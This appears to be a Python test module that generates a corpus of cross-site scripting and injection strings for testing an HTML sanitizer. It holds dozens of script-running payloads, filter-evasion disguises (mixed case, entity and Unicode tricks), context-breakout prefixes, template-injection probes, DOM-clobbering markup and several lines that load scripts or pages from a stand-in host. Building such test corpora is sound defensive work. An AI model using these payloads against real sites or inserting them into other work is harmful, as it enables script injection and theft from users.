"""Texts that try to run as a script: what is put into elements, by which event, in which disguise, and how it breaks out of where it stands.

`python -m tests.hostile.corpus` writes them into strings.json, which is kept so that what is tested is there to be read. What one of
them wants is to set `evil` in the window it runs in, or to make the browser ask elsewhere.example for something.
"""

import json
from collections.abc import Callable, Iterator
from itertools import cycle
from pathlib import Path
from urllib.parse import quote

FILE = Path(__file__).parent / "strings.json"
# An entry's id may be so long, and every one of these is tried as one.
MOST_CHARACTERS = 200
ELSEWHERE = "https://elsewhere.example/x"

# Elements that run by themselves as soon as they stand in a page, or when somebody touches them.
ELEMENTS = (
    "<script>evil=1</script>",
    "<script src=data:text/javascript,evil=1></script>",
    f"<script src={ELSEWHERE}.js></script>",
    "<img src=x onerror=evil=1>",
    "<img srcset=x onerror=evil=1>",
    f"<img src={ELSEWHERE}.png>",
    "<svg onload=evil=1>",
    "<svg><script>evil=1</script></svg>",
    "<svg><animate onbegin=evil=1 attributeName=x dur=1s>",
    "<svg><set onbegin=evil=1 attributeName=x to=y>",
    "<svg><a href=javascript:evil=1><text y=20>x</text></a></svg>",
    f"<svg><use href={ELSEWHERE}.svg#a></use></svg>",
    f"<svg><image href={ELSEWHERE}.png></image></svg>",
    "<body onload=evil=1>",
    "<video src=x onerror=evil=1></video>",
    "<video><source src=x onerror=evil=1></video>",
    "<audio src=x onerror=evil=1></audio>",
    "<input autofocus onfocus=evil=1>",
    "<textarea autofocus onfocus=evil=1></textarea>",
    "<select autofocus onfocus=evil=1></select>",
    "<p tabindex=1 autofocus onfocus=evil=1>x</p>",
    "<details open ontoggle=evil=1><p>x</p></details>",
    "<iframe src=javascript:parent.evil=1></iframe>",
    "<iframe srcdoc='<script>parent.evil=1</script>'></iframe>",
    f"<iframe src={ELSEWHERE}.html></iframe>",
    "<iframe onload=evil=1></iframe>",
    "<object data=javascript:parent.evil=1></object>",
    "<object data=x onerror=evil=1></object>",
    "<embed src=javascript:parent.evil=1>",
    "<style onload=evil=1>p{}</style>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<p style='background:url({ELSEWHERE}.png)'>x</p>",
    "<link rel=stylesheet href=x onerror=evil=1>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    "<a href=javascript:evil=1>x</a>",
    "<form action=javascript:evil=1><button>x</button></form>",
    "<button formaction=javascript:evil=1 form=intake>x</button>",
    "<button onclick=evil=1 data-do=play>x</button>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    "<style>@keyframes k{}</style><p style=animation:k onanimationstart=evil=1>x</p>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=evil=1>",
    "<noscript><p title='</noscript><img src=x onerror=evil=1>'>",
    "<svg></p><style><a id='</style><img src=x onerror=evil=1>'>",
)


def _mixed(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


# How the same text is written so that somebody who looks for it does not find it.
DISGUISES: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "in mixed letters": lambda text: text.replace("script", _mixed("script")).replace("onerror", "OnErRoR").replace("onload", "oNLoad"),
    "with a slash for a space": lambda text: text.replace(" ", "/", 1),
    "with a line end for a space": lambda text: text.replace(" ", "\n", 1),
    "with a form feed for a space": lambda text: text.replace(" ", "\f", 1),
    "not closed": lambda text: text.rstrip(">"),
    "opened twice": lambda text: text.replace("<", "<<", 1),
    "one in another": lambda text: text.replace("<script", "<scr<script>ipt").replace("<img", "<im<img g"),
    "as named characters": lambda text: text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),
    "as named characters twice": lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "as numbers": lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    "as numbers without an end": lambda text: text.replace("<", "&#x3c").replace(">", "&#x3e"),
    "scheme as numbers": lambda text: text.replace("javascript:", "&#106;ava&Tab;script&colon;"),
    "handler as numbers": lambda text: text.replace("evil=1", "&#101;vil&equals;1"),
    "of an address": lambda text: quote(text),
    "of a script": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    "with nothing in it": lambda text: text.replace("<", "<\x00", 1).replace("script", "scr\x00ipt"),
    "wide": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "turned round": lambda text: f"\u202e{text}\u202c",
    "with quotes": lambda text: text.replace("=evil=1", '="evil=1"').replace("=javascript:evil=1", "='javascript:evil=1'"),
}
# How a text gets out of the place it was put into.
OUTBREAKS = ("", '">', "'>", "`>", "-->", "]]>", "</p>", "</textarea>", "</title>", "</script>", "</style>", "</select>", "</button></form>", '"}]}', "\\'>", "%22%3e", "</svg>", "\n\n")

# What has no element of its own.
OTHERS = (
    "javascript:evil=1",
    "JaVaScRiPt:evil=1",
    "java\tscript:evil=1",
    "\x01javascript:evil=1",
    "data:text/html,<script>evil=1</script>",
    "data:text/html;base64,PHNjcmlwdD5ldmlsPTE8L3NjcmlwdD4=",
    "vbscript:evil=1",
    '" autofocus onfocus="evil=1',
    "' autofocus onfocus='evil=1",
    "` autofocus onfocus=`evil=1",
    '" onmouseover="evil=1" style="position:fixed;inset:0',
    "x onfocus=evil=1 autofocus",
    "'-(evil=1)-'",
    '"-(evil=1)-"',
    "`-(evil=1)-`",
    "${evil=1}",
    "';evil=1;//",
    '";evil=1;//',
    "\\';evil=1;//",
    "*/evil=1/*",
    "\u2028evil=1\u2029",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in [1] %}<script>evil=1</script>{% endfor %}",
    "{# <script>evil=1</script> #}",
    "{{ '<script>evil=1</script>' | safe }}",
    "<%= evil=1 %>",
    "#{evil=1}",
    "{evil}{0.__class__}{words}",
    "%(evil)s%s%n",
    "__proto__",
    "constructor",
    "toString",
    "<form id=intake name=body><input name=attributes><input name=children>",
    "<img name=currentScript id=__config>",
    "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href=x>",
    "<div data-slot=today data-view=today data-do=delete data-tell='{}'>x</div>",
    "<button data-do=delete>Delete everything</button>",
    "<button data-tell='{\"kind\":\"choice\",\"answers\":{}}'>x</button>",
    "<div class=figure-slot data-figure=../../../x></div>",
    "<session-player><dialog open>x</dialog></session-player>",
    "<hamstring-planner data-runtime=https://elsewhere.example/ data-worker=https://elsewhere.example/w.js></hamstring-planner>",
    "<script type=module>evil=1</script>",
    "<script type=importmap>{\"imports\":{\"./engine.js\":\"data:text/javascript,evil=1\"}}</script>",
    "<template shadowrootmode=open><img src=x onerror=evil=1></template>",
    "<xmp><p title='</xmp><img src=x onerror=evil=1>'>",
    "<!--><img src=x onerror=evil=1>-->",
    "<!-- --!><img src=x onerror=evil=1> -->",
    "<![CDATA[><img src=x onerror=evil=1>]]>",
    "<?xml ><img src=x onerror=evil=1>?>",
    "+ADw-script+AD4-evil=1+ADw-/script+AD4-",
    "\u00bcscript\u00beevil=1\u00bc/script\u00be",
    "<ſcript>evil=1</ſcript>",
    "<ımg src=x onerror=evil=1>",
    "<img src=x onerror=evil=1\u3000>",
    "<p><svg><desc><img src=x onerror=evil=1></desc></svg>",
    "<table><td><form><table><svg><style><img src=x onerror=evil=1>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(evil=1)//%0D%0A</title></style></textarea></script><svg/onload=evil=1>",
    "'\"></title></textarea></style></script><svg onload=evil=1><!--",
)


def make() -> list[str]:
    """Every element in disguises and outbreaks, each outbreak and disguise many times, and the others; none twice."""
    return list(dict.fromkeys(text for text in _all() if len(text) <= MOST_CHARACTERS))


def _all() -> Iterator[str]:
    yield from ELEMENTS
    outbreaks, disguises = cycle(OUTBREAKS), cycle(DISGUISES.values())
    for element in ELEMENTS:
        # Eleven of the disguises; the next element goes on where this one ended, so all of them come up with all kinds of elements.
        for disguise, outbreak in zip((next(disguises) for _ in range(11)), outbreaks, strict=False):
            yield outbreak + disguise(element)
    yield from OTHERS


def read() -> list[str]:
    """The texts as they are kept."""
    return json.loads(FILE.read_text(encoding="utf-8"))


def text() -> str:
    """The file's text, one string a line."""
    return json.dumps(make(), indent=0, ensure_ascii=True) + "\n"


if __name__ == "__main__":
    FILE.write_text(text(), encoding="utf-8")
